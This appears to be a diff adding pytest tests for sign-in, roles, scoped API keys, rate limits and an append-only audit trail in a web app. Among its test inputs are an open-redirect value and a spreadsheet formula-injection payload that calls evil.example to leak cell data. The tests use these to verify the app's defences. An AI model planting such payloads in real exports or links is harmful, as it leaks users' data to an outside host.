@@ -4,23 +4,52 @@ import csv
 import io
 import os
 import re
+import sqlite3
 
 import pytest
 
 from tests import store_data
-from webapp import ConfigurationError, create_app, experiments
+from webapp import ConfigurationError, accounts, audit, create_app, experiments
+from webapp.state import get_state
+
+SECRET_KEY = "k3y-for-tests-only-0123456789abcdefXYZ"
+PASSWORD = "correct horse battery"
 
 
 @pytest.fixture
 def app(tmp_path):
     store = store_data.build(tmp_path / "segrec.sqlite")
-    return create_app({"SEGREC_DB": store, "SEGREC_STATE_DB": str(tmp_path / "state.sqlite"), "SECRET_KEY": "test",
+    return create_app({"SEGREC_DB": store, "SEGREC_STATE_DB": str(tmp_path / "state.sqlite"), "SECRET_KEY": SECRET_KEY,
                        "SEGREC_STORE_CHECK_SECONDS": 0.0, "MAX_CONTENT_LENGTH": 64 * 1024})
+
+
+def add_user(app, name, role):
+    with app.app_context():
+        accounts.add_user(get_state(), name, role, PASSWORD)
+
+
+def make_key(app, scopes=accounts.SCOPES, name="storefront", rate=accounts.DEFAULT_RATE_PER_MINUTE) -> str:
+    with app.app_context():
+        return accounts.create_key(get_state(), name, scopes, rate)
+
+
+def sign_in(client, name, password=PASSWORD):
+    return client.post("/sign-in", data={"name": name, "password": password, "csrf_token": csrf(client, "/sign-in")})
+
+
+def signed_in(app, role):
+    add_user(app, role, role)
+    client = app.test_client()
+    assert sign_in(client, role).status_code == 302
+    return client
 
 
 @pytest.fixture
 def client(app):
-    return app.test_client()
+    """An editor signed in, whose requests also carry an API key with every scope."""
+    client = signed_in(app, "editor")
+    client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {make_key(app)}"
+    return client
 
 
 def csrf(client, path="/campaigns/"):
@@ -40,11 +69,14 @@ def test_a_missing_secret_key_outside_development_stops_start_up(tmp_path):
     with pytest.raises(ConfigurationError, match="SECRET_KEY is not set"):
         create_app(config)
     assert create_app({**config, "SEGREC_ENV": "development"}).config["SECRET_KEY"]
-    assert not create_app({**config, "SECRET_KEY": "x"}).debug
+    assert not create_app({**config, "SECRET_KEY": SECRET_KEY}).debug
+    for weak in ("a", "x" * 40, "0123456789" * 2):
+        with pytest.raises(ConfigurationError, match="at least 32 random bytes"):
+            create_app({**config, "SECRET_KEY": weak})
 
 
 def test_configuration_comes_from_the_environment(tmp_path, monkeypatch):
-    monkeypatch.setenv("SECRET_KEY", "from-env")
+    monkeypatch.setenv("SECRET_KEY", SECRET_KEY)
     monkeypatch.setenv("SEGREC_DB", store_data.build(tmp_path / "env.sqlite", run_id="from-env-run"))
     monkeypatch.setenv("SEGREC_STATE_DB", str(tmp_path / "state.sqlite"))
     client = create_app().test_client()
@@ -165,9 +197,10 @@ def test_a_new_store_is_picked_up_and_a_broken_one_is_not(client, tmp_path, app)
 
 
 def test_no_store_at_all_is_a_503_not_a_crash(tmp_path):
-    app = create_app({"SEGREC_DB": str(tmp_path / "missing.sqlite"), "SEGREC_STATE_DB": str(tmp_path / "s.sqlite"), "SECRET_KEY": "k"})
-    assert "publish one with jobs.publish" in error_of(app.test_client().get("/api/v1/segments"), 503)
-    page = app.test_client().get("/")
+    app = create_app({"SEGREC_DB": str(tmp_path / "missing.sqlite"), "SEGREC_STATE_DB": str(tmp_path / "s.sqlite"), "SECRET_KEY": SECRET_KEY})
+    key = {"Authorization": f"Bearer {make_key(app)}"}
+    assert "publish one with jobs.publish" in error_of(app.test_client().get("/api/v1/segments", headers=key), 503)
+    page = signed_in(app, "viewer").get("/")
     assert page.status_code == 503 and b"Traceback" not in page.data
 
 
@@ -306,3 +339,179 @@ def test_uplift_and_its_interval_match_the_textbook_formula():
     se = math.sqrt(0.2 * 0.8 / 200 + 0.1 * 0.9 / 100)
     assert uplift["conversion_ci95"] == pytest.approx([0.1 - 1.96 * se, 0.1 + 1.96 * se], abs=1e-3)
     assert uplift["significant"] and summary["variants"]["personalised"]["revenue_per_customer"] == pytest.approx(2.0)
+
+
+# ------------------------------------------------------------------ trust: sign-in, roles, keys, audit
+
+def page_endpoints(app) -> list[str]:
+    """A path for every page route (parameters filled in), none of the API's."""
+    paths = []
+    for rule in app.url_map.iter_rules():
+        if rule.endpoint in ("static", "auth.sign_in") or rule.rule.startswith("/api/"):
+            continue
+        path = rule.rule.replace("<int:campaign_id>", "1").replace("<name>", "x").replace("<customer_id>", "c5")
+        paths.append((sorted(rule.methods - {"HEAD", "OPTIONS"})[0], path))
+    return paths
+
+
+def test_signed_out_every_page_redirects_to_sign_in_and_every_api_route_but_health_is_401(app):
+    client = app.test_client()
+    pages = page_endpoints(app)
+    assert len(pages) >= 15
+    for method, path in pages:
+        response = client.open(path, method=method)
+        if method == "GET":
+            assert response.status_code == 302 and "/sign-in" in response.headers["Location"], (path, response.status_code)
+        else:  # a form posted without a session has no CSRF token either: refused before it is read
+            assert response.status_code in (302, 400), (path, response.status_code)
+    api_rules = [rule for rule in app.url_map.iter_rules() if rule.rule.startswith("/api/")]
+    for rule in api_rules:
+        path = rule.rule.replace("<customer_id>", "c5").replace("<item_id>", "I001")
+        method = sorted(rule.methods - {"HEAD", "OPTIONS"})[0]
+        response = client.open(path, method=method, json={} if method == "POST" else None)
+        if rule.endpoint == "api.healthz":
+            assert response.status_code == 200 and "customer" not in response.get_data(as_text=True)
+        else:
+            assert "API key" in error_of(response, 401) and response.headers["WWW-Authenticate"].startswith("Bearer"), path
+    for bad in ("Bearer nope", "Bearer sgr_000000000000_wrong", "Basic abc", f"Bearer {make_key(app)}x"):
+        error_of(client.get("/api/v1/segments", headers={"Authorization": bad}), 401)
+
+
+def test_each_role_can_do_what_it_should_and_no_more(app):
+    viewer, editor, admin = signed_in(app, "viewer"), signed_in(app, "editor"), signed_in(app, "admin")
+    assert viewer.get("/").status_code == 200 and viewer.get("/campaigns/").status_code == 200
+    assert viewer.get("/customers?id=c5").status_code == 200
+    refused = viewer.post("/campaigns/", data={"name": "x", "segments": "mid", "list": "discover", "n": "3", "control_share": "10",
+                                               "csrf_token": csrf(viewer)})
+    assert refused.status_code == 403 and b"editor role" in refused.data
+    assert create_campaign(editor).status_code == 302
+    assert viewer.get("/campaigns/1").status_code == 200 and viewer.get("/campaigns/1/export.csv").status_code == 403
+    assert editor.get("/campaigns/1/export.csv").status_code == 200
+    for path in ("/admin/users", "/admin/keys", "/admin/audit", "/admin/audit.csv"):
+        assert viewer.get(path).status_code == 403 and editor.get(path).status_code == 403 and admin.get(path).status_code == 200, path
+    assert b"Users" not in editor.get("/").data and b"Audit" in admin.get("/").data
+
+
+def test_keys_carry_scopes_and_a_rate(app):
+    reader = {"Authorization": f"Bearer {make_key(app, ['recommendations:read'], name='reader', rate=3)}"}
+    client = app.test_client()
+    assert client.get("/api/v1/customers/c5/recommendations", headers=reader).status_code == 200
+    assert "customers:read" in error_of(client.get("/api/v1/customers/c5", headers=reader), 403)
+    event = {"customer_id": "c5", "item_id": "I001", "type": "view", "timestamp": "2011-12-11T10:00:00Z"}
+    assert "events:write" in error_of(client.post("/api/v1/events", json=event, headers=reader), 403)
+    for _ in range(3):
+        client.get("/api/v1/segments", headers=reader)
+    limited = client.get("/api/v1/segments", headers=reader)
+    assert limited.status_code == 429 and int(limited.headers["Retry-After"]) >= 1 and "Traceback" not in limited.get_data(as_text=True)
+    writer = {"Authorization": f"Bearer {make_key(app, ['events:write'], name='writer')}"}
+    assert client.post("/api/v1/events", json=event, headers=writer).status_code == 201  # another key has its own rate
+
+
+def test_sign_in_sign_out_and_failures_are_limited_and_recorded(app):
+    add_user(app, "ana", "viewer")
+    client = app.test_client()
+    assert client.get("/campaigns/").headers["Location"].endswith("/sign-in?next=/campaigns/")
+    for _ in range(5):
+        failed = sign_in(client, "ana", "wrong password!")
+        assert failed.status_code == 401 and b"wrong name or password" in failed.data
+    assert sign_in(client, "ana").status_code == 429  # the account's failures are limited, even with the right password
+    other = app.test_client()
+    moved = sign_in(other, "ghost", "whatever password")
+    assert moved.status_code == 401  # unknown names fail the same way
+    add_user(app, "bo", "viewer")
+    client = app.test_client()
+    response = client.post("/sign-in", data={"name": "bo", "password": PASSWORD, "next": "//evil.example/x", "csrf_token": csrf(client, "/sign-in")})
+    assert response.status_code == 302 and response.headers["Location"] == "/"  # never an open redirect
+    assert client.get("/").status_code == 200
+    assert client.post("/sign-out", data={"csrf_token": csrf(client, "/")}).status_code == 302
+    assert client.get("/").status_code == 302
+    with app.app_context():
+        rows = audit.entries(get_state())
+    outcomes = [(row["action"], row["target"], row["outcome"]) for row in rows]
+    assert outcomes.count(("sign-in", "ana", "failed")) == 5 and ("sign-in", "bo", "ok") in outcomes and ("sign-out", "bo", "ok") in outcomes
+    assert all(PASSWORD not in str(row) and "wrong password" not in str(row) for row in rows)
+
+
+def test_a_new_password_ends_the_users_sessions(app):
+    client = signed_in(app, "viewer")
+    with app.app_context():
+        accounts.set_password(get_state(), "viewer", "another long password")
+    assert client.get("/").status_code == 302
+
+
+def test_admins_manage_users_and_keys_and_read_the_audit_trail(app):
+    admin = signed_in(app, "admin")
+    made = admin.post("/admin/keys", data={"name": "shop", "scopes": ["recommendations:read"], "rate_per_minute": "100",
+                                           "csrf_token": csrf(admin, "/admin/keys")})
+    key = re.search(r'<code id="secret">([^<]+)</code>', made.get_data(as_text=True)).group(1)
+    assert admin.get("/admin/keys").get_data(as_text=True).count(key) == 0  # shown once
+    with app.app_context():
+        stored = get_state().query("SELECT * FROM api_keys WHERE name = 'shop'")[0]
+    assert key.split("_")[2] not in str(dict(stored))  # only a hash of the secret is kept
+    api = app.test_client()
+    assert api.get("/api/v1/segments", headers={"Authorization": f"Bearer {key}"}).status_code == 200
+    admin.post("/admin/keys/shop/revoke", data={"csrf_token": csrf(admin, "/admin/keys")})
+    error_of(api.get("/api/v1/segments", headers={"Authorization": f"Bearer {key}"}), 401)
+    made = admin.post("/admin/users", data={"name": "cleo", "role": "editor", "csrf_token": csrf(admin, "/admin/users")})
+    password = re.search(r'<code id="secret">([^<]+)</code>', made.get_data(as_text=True)).group(1)
+    assert sign_in(app.test_client(), "cleo", password).status_code == 302
+    refused = admin.post("/admin/users/admin/remove", data={"csrf_token": csrf(admin, "/admin/users")})
+    assert refused.status_code == 400 and b"last admin" in refused.data
+    trail = admin.get("/admin/audit?action=key-revoke").get_data(as_text=True)
+    assert "shop" in trail and "key-create" not in trail
+    exported = list(csv.DictReader(io.StringIO(admin.get("/admin/audit.csv").get_data(as_text=True))))
+    assert {"key-create", "key-revoke", "user-add", "user-remove", "sign-in"} <= {row["action"] for row in exported}
+    assert {row["outcome"] for row in exported if row["action"] == "user-remove"} == {"refused"}
+    with app.app_context(), pytest.raises(sqlite3.DatabaseError, match="append-only"):
+        get_state().write("DELETE FROM audit")
+
+
+def test_campaign_changes_are_audited_and_exports_are_safe_in_a_spreadsheet(app, tmp_path):
+    evil = '=HYPERLINK("http://evil.example/?d="&A2,"50% off")'
+    with sqlite3.connect(app.config["SEGREC_DB"]) as connection:
+        connection.execute("UPDATE items SET description = ? WHERE item_id = 'I006'", (evil,))
+    editor = signed_in(app, "editor")
+    create_campaign(editor, segments=["mid"], list="discover", n="4")
+    text = editor.get("/campaigns/1/export.csv").get_data(as_text=True)
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + evil in cells and evil not in cells
+    with app.app_context():
+        actions = [(row["actor"], row["action"], row["target"]) for row in audit.entries(get_state())]
+    assert ("editor", "campaign-create", "campaign 1") in actions and ("editor", "campaign-export", "campaign 1") in actions
+
+
+def test_operators_manage_accounts_and_keys_from_the_command_line(tmp_path, capsys):
+    from webapp import keys, users
+
+    state_db = str(tmp_path / "state.sqlite")
+    (tmp_path / "pw").write_text("a long enough password\n")
+    assert users.main(["--state-db", state_db, "add", "root", "--role", "admin", "--password-file", str(tmp_path / "pw")]) == 0
+    assert keys.main(["--state-db", state_db, "create", "--name", "shop", "--scopes", "recommendations:read,events:write"]) == 0
+    printed = capsys.readouterr().out
+    key = printed.strip().splitlines()[-1]
+    assert key.startswith("sgr_")
+    assert users.main(["--state-db", state_db, "list"]) == 0 and keys.main(["--state-db", state_db, "list"]) == 0
+    listed = capsys.readouterr().out
+    assert "root" in listed and "admin" in listed and "shop" in listed and key not in listed
+    assert keys.main(["--state-db", state_db, "revoke", "shop"]) == 0
+    (tmp_path / "short").write_text("short\n")
+    from webapp import operators
+
+    assert operators.run(users.main, ["--state-db", state_db, "add", "x", "--role", "viewer", "--password-file", str(tmp_path / "short")]) == 2
+    assert "at least 12 characters" in capsys.readouterr().err
+    app = create_app({"SEGREC_DB": store_data.build(tmp_path / "s.sqlite"), "SEGREC_STATE_DB": state_db, "SECRET_KEY": SECRET_KEY})
+    error_of(app.test_client().get("/api/v1/segments", headers={"Authorization": f"Bearer {key}"}), 401)
+    assert sign_in(app.test_client(), "root", "a long enough password").status_code == 302
+    with app.app_context():
+        actors = {row["actor"] for row in audit.entries(get_state(), action="key-revoke")}
+    assert len(actors) == 1 and actors.pop().startswith("cli:")
+
+
+def test_the_first_start_makes_one_admin_and_says_its_password_once(tmp_path):
+    from webapp.serve import first_admin
+
+    app = create_app({"SEGREC_DB": store_data.build(tmp_path / "s.sqlite"), "SEGREC_STATE_DB": str(tmp_path / "state.sqlite"),
+                      "SECRET_KEY": SECRET_KEY})
+    password = first_admin(app)
+    assert password and first_admin(app) is None
+    assert sign_in(app.test_client(), "admin", password).status_code == 302
